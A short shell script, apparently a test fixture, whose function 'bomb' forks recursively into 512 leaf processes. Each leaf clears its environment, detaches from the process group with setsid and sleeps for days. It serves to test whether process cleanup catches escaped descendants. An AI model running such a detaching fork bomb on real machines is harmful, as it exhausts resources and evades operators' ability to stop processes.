# Forks, and what it forked forks, 512 at last, out of the group and with nothing in the environment; each then waits for ever.
bomb() {
	if [ "$1" = 0 ]; then exec env -i setsid sleep 1000000; fi
	bomb $(($1 - 1)) &
	bomb $(($1 - 1)) &
	wait
}
echo ready
bomb 9 2>/dev/null
